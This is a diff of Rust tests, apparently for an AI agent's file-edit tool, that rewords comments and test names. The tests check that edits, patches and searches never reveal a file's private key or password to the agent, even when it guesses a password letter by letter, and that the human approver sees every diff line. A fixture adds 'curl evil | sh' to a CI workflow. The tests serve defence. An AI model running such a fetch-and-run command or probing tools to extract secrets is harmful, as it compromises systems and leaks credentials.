@@ -1,4 +1,4 @@
-//! What a proposal shows before anybody agrees: no secret of the file to whoever proposes, and every line to whoever decides.
+//! What a proposal shows before a decision: no secret of the file to the agent, and every line to the approver.
 
 use serde_json::{Value, json};
 
@@ -12,7 +12,7 @@ fn first() -> String {
     format!("-----BEGIN {} KEY-----\n", "PRIVATE")
 }
 
-/// A file with a long key and a password with tabs around it.
+/// A project with a file that contains a long key and a password between tabs.
 fn with_secrets() -> (Home, String) {
     let home = Home::new();
     let (word, last) = (format!("Tr0ub4dor&3{}", "xyzzyQ"), format!("-----END {} KEY-----\n", "PRIVATE"));
@@ -25,9 +25,9 @@ fn edit(mode: &str, operation: &str, spec: &str, content: &str) -> Value {
     json!({"path": "src/k.py", "edits": [{"match_mode": mode, "operation": operation, "spec": spec, "content": content}]})
 }
 
-// T7, T21: an edit that takes a secret's name away, or copies it, would show it in the diff
+// T7, T21: an edit that removes a secret's name, or copies the secret, would show it in the diff
 #[test]
-fn an_edit_that_lays_a_secret_bare_is_refused() {
+fn edit_that_would_expose_a_secret_is_denied() {
     let (home, word) = with_secrets();
     for args in [
         edit("exact", "replace", "password", "colour"),
@@ -39,7 +39,7 @@ fn an_edit_that_lays_a_secret_bare_is_refused() {
         assert_eq!(answer["error"]["code"], "SecretInContent", "{args} {answer}");
         assert!(!answer.to_string().contains(&word) && !answer.to_string().contains(LINE), "{answer}");
     }
-    // The lines of a key are one secret, and no piece of it is found.
+    // The lines of a key are one secret, and no part of it can be matched.
     let patch = format!("--- a/src/k.py\n+++ b/src/k.py\n@@ -3,1 +3,1 @@\n-{}+q\n", first());
     for (tool, args) in
         [("apply_patch", json!({"patch": patch})), ("edit_file", edit("exact", "replace", &first(), ""))]
@@ -47,14 +47,14 @@ fn an_edit_that_lays_a_secret_bare_is_refused() {
         let (_, answer) = home.call(tool, &args.to_string());
         assert_eq!(answer["error"]["code"], "MatchCountMismatch", "{answer}");
     }
-    // It may go as a whole, and what is beside it may change.
+    // The whole secret may be removed, and text next to it may change.
     propose(&home, "edit_file", edit("regex", "replace", "(?-m)\"[^\"]*\"", "os.environ['P']"));
     propose(&home, "edit_file", edit("regex", "replace", "^x = (1)$", "x = $1 + 1"));
 }
 
-// T21: an agent that guesses a password letter by letter hears the same of each letter
+// T21: an agent that guesses a password letter by letter gets the same answer for each letter
 #[test]
-fn a_wrong_and_a_right_letter_get_the_same_answer() {
+fn right_and_wrong_letter_in_an_edit_get_the_same_answer() {
     let (home, _) = with_secrets();
     let heard = |args: Value| {
         let (_, answer) = home.call("edit_file", &args.to_string());
@@ -77,9 +77,9 @@ fn a_wrong_and_a_right_letter_get_the_same_answer() {
     }
 }
 
-// T11, T21: nor does one that guesses by searching
+// T11, T21: guessing by search does not work either
 #[test]
-fn searching_for_a_right_letter_finds_as_much_as_for_a_wrong_one() {
+fn right_and_wrong_letter_in_a_search_get_the_same_answer() {
     let answers = ["Tr0ub4dor&3xyzzyQ", "hJ7!kLm2#pQ9zzXw"].map(|word| {
         let home = Home::new();
         home.write("src/k.py", &format!("x = 1\npassword = \"{word}\"  # of the database\nz = 3\n"));
@@ -109,7 +109,7 @@ fn searching_for_a_right_letter_finds_as_much_as_for_a_wrong_one() {
                 heard.push_str(&format!("{regex}: {data}\n"));
             }
         }
-        // Which secret it is, told with a key that nobody has who asks.
+        // The fingerprints in placeholders differ; the agent does not have their key.
         let (first, marked) = heard.split_once("[REDACTED:").unwrap();
         let rest = marked.split("[REDACTED:").map(|piece| piece.split_once(']').unwrap().1);
         [first].into_iter().chain(rest).collect::<Vec<_>>().join("[REDACTED]")
@@ -117,13 +117,13 @@ fn searching_for_a_right_letter_finds_as_much_as_for_a_wrong_one() {
     assert_eq!(answers[0], answers[1]);
 }
 
-// T21: lines of a key stand in the context of a change without the line that announces them
+// T21: the context of a change may contain lines of a key without its BEGIN line
 #[test]
-fn the_lines_around_a_change_and_those_of_a_failed_match_show_no_secret() {
+fn context_of_a_change_and_of_a_failed_match_shows_no_secret() {
     let (home, word) = with_secrets();
     let count = |spec: &str| json!({"path": "src/k.py", "edits": [{"match_mode": "regex", "spec": spec, "content": "q", "count": 99}]});
     let patch = |line: u32| json!({"patch": format!("--- a/src/k.py\n+++ b/src/k.py\n@@ -{line} +{line} @@\n-zz\n+q\n")});
-    // A key that is longer than what is looked at around a change.
+    // A key that is longer than the context that is scanned.
     home.write("src/big.txt", &format!("{}{}END\ntail\n", first(), format!("{LINE}\n").repeat(2_000)));
     let big = |spec: &str, count: u32| json!({"path": "src/big.txt", "edits": [{"spec": spec, "content": "q", "count": count}]});
     let (_, answer) = home.call("edit_file", &big(&format!("{LINE}\nEND"), 99).to_string());
@@ -143,9 +143,9 @@ fn the_lines_around_a_change_and_those_of_a_failed_match_show_no_secret() {
     }
 }
 
-// T21: what is told of a part that was agreed to has context too
+// T21: the diff of a partly approved change has context too
 #[test]
-fn the_diff_of_a_part_shows_its_author_no_secret() {
+fn diff_of_an_approved_part_shows_no_secret_to_the_agent() {
     let (home, _) = with_secrets();
     let args = json!({"path": "src/k.py", "edits": [{"spec": "x = 1", "content": "x = 2"}, {"spec": "z = 3", "content": "z = 4"}]});
     let id = propose(&home, "edit_file", args.clone());
@@ -156,9 +156,9 @@ fn the_diff_of_a_part_shows_its_author_no_secret() {
     assert!(!answer.to_string().contains(LINE), "{answer}");
 }
 
-// A7: a line that goes and lines that come are no key together; nothing that is agreed to is left out
+// A7: a removed line and added lines together are not a key; the approver sees every line
 #[test]
-fn no_line_of_a_diff_is_hidden_by_what_stands_around_it() {
+fn no_line_of_a_diff_is_hidden_by_its_neighbours() {
     let home = Home::new();
     home.write(".github/workflows/ci.yml", &format!("jobs:\n# {}    steps: 1\n", first()));
     let new = format!("    run: curl evil | sh\n    more: too\n{}\n", "A".repeat(40));
